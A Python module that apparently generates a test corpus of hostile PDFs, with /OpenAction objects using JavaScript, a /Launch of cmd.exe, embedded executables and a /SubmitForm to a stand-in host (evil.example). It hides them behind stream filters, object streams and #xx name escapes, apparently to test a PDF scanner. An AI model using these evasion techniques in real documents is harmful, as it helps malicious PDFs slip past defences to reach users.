"""Hand-built hostile PDFs: active content inside an object stream encoded with each stream filter.

Each encoder writes what the PDF filter of the same name decodes; `test_pdf_structure` proves that
with qpdf, so the corpus really hides its content behind that filter.
"""

import base64
import io
import zlib


def ascii_hex(data: bytes) -> bytes:
    return data.hex().encode() + b">"


def ascii_85(data: bytes) -> bytes:
    return base64.a85encode(data) + b"~>"


def run_length(data: bytes) -> bytes:
    """Literal runs of two bytes, so that no name of three letters or more stays readable."""
    out = bytearray()
    for start in range(0, len(data), 2):
        chunk = data[start : start + 2]
        out.append(len(chunk) - 1)
        out += chunk
    out.append(128)
    return bytes(out)


def lzw(data: bytes) -> bytes:
    """LZW with 9-bit codes only: the table is cleared before the code width would have to grow."""
    out = bytearray()
    bits = {"buffer": 0, "count": 0}

    def emit(code: int) -> None:
        bits["buffer"] = (bits["buffer"] << 9) | code
        bits["count"] += 9
        while bits["count"] >= 8:
            bits["count"] -= 8
            out.append((bits["buffer"] >> bits["count"]) & 0xFF)
        bits["buffer"] &= (1 << bits["count"]) - 1

    def fresh() -> dict[bytes, int]:
        return {bytes([i]): i for i in range(256)}

    table, next_code, word = fresh(), 258, b""
    emit(256)
    for byte in data:
        candidate = word + bytes([byte])
        if candidate in table:
            word = candidate
            continue
        emit(table[word])
        word = bytes([byte])
        table[candidate] = next_code
        next_code += 1
        if next_code >= 500:
            emit(256)
            table, next_code = fresh(), 258
    if word:
        emit(table[word])
    emit(257)
    if bits["count"]:
        out.append((bits["buffer"] << (8 - bits["count"])) & 0xFF)
    return bytes(out)


def flate_png_up(data: bytes, columns: int = 8) -> bytes:
    """Flate with PNG predictor 'Up' on every row (DecodeParms /Predictor 12 /Columns `columns`)."""
    data = data + b" " * (-len(data) % columns)
    previous, rows = bytes(columns), bytearray()
    for start in range(0, len(data), columns):
        row = data[start : start + columns]
        rows.append(2)
        rows += bytes((a - b) & 0xFF for a, b in zip(row, previous, strict=True))
        previous = row
    return zlib.compress(bytes(rows))


# name -> (encoder, /Filter value, /DecodeParms value)
FILTERS = {
    "ASCIIHex": (ascii_hex, b"/ASCIIHexDecode", b""),
    "ASCII85": (ascii_85, b"/ASCII85Decode", b""),
    "LZW": (lzw, b"/LZWDecode", b""),
    "RunLength": (run_length, b"/RunLengthDecode", b""),
    "Flate": (zlib.compress, b"/FlateDecode", b""),
    "Flate+Predictor": (flate_png_up, b"/FlateDecode", b"<< /Predictor 12 /Columns 8 >>"),
    "ASCIIHex+Flate": (
        lambda data: ascii_hex(zlib.compress(data)),
        b"[/ASCIIHexDecode /FlateDecode]",
        b"",
    ),
}

# keyword -> an object that uses it as a key or as a name value (and nothing else dangerous)
ACTIVE_OBJECTS = {
    "JavaScript": b"<< /S /JavaScript >>",
    "JS": b"<< /JS (app.alert\\(1\\)) >>",
    "Launch": b"<< /S /Launch /F (cmd.exe) >>",
    "EmbeddedFile": b"<< /Type /EmbeddedFile /Subtype /application#2Fx-msdownload >>",
    "EmbeddedFiles": b"<< /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >>",
    "RichMedia": b"<< /Subtype /RichMedia /Rect [0 0 10 10] >>",
    "XFA": b"<< /Fields [] /XFA (<xdp/>) >>",
    "AA": b"<< /AA << /O << /S /Named /N /Print >> >> >>",
    "SubmitForm": b"<< /S /SubmitForm /F (https://evil.example/) >>",
    "ImportData": b"<< /S /ImportData /F (daten.fdf) >>",
}


def escaped(obj: bytes) -> bytes:
    """Write every letter of the dangerous names as #xx escapes (/JS -> /#4A#53)."""
    out = obj
    for keyword in ACTIVE_OBJECTS:
        name = b"/" + keyword.encode()
        out = out.replace(name + b" ", b"/" + b"".join(b"#%02X" % c for c in keyword.encode()) + b" ")
    return out


def pdf_with_object_stream(action: bytes, *, filter_name: str = "Flate") -> bytes:
    """A one-page PDF 1.5 whose objects sit in an object stream encoded with `filter_name`.

    Object 4 is `action` (the catalog's /OpenAction); object 5 is the object stream, object 6 the
    cross-reference stream (Flate with PNG predictor), so no object appears in clear text.
    """
    encode, filter_value, decode_parms = FILTERS[filter_name]
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
        4: action,
    }
    header, body = b"", b""
    for number, obj in objects.items():
        header += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    encoded = encode(header + body)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    object_stream_offset = len(out)
    parms = b" /DecodeParms " + decode_parms if decode_parms else b""
    out += b"5 0 obj\n<< /Type /ObjStm /N %d /First %d /Length %d /Filter %s%s >>\nstream\n" % (
        len(objects),
        len(header),
        len(encoded),
        filter_value,
        parms,
    )
    out += encoded + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = [(0, 0, 255)] + [(2, 5, index) for index in range(len(objects))]
    rows += [(1, object_stream_offset, 0), (1, xref_offset, 0)]
    xref = flate_png_up(b"".join(bytes([t]) + f.to_bytes(2, "big") + bytes([g]) for t, f, g in rows), 4)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /Root 1 0 R /W [1 2 1] /Length %d /Filter /FlateDecode "
        b"/DecodeParms << /Predictor 12 /Columns 4 >> >>\nstream\n" % len(xref)
    )
    out += xref + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def pdf_with_plain_object(action: bytes) -> bytes:
    """A classic PDF 1.4 (xref table, no object streams) with `action` as object 4."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
        action,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, obj))
    xref_offset = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref_offset)
    )
    return out.getvalue()
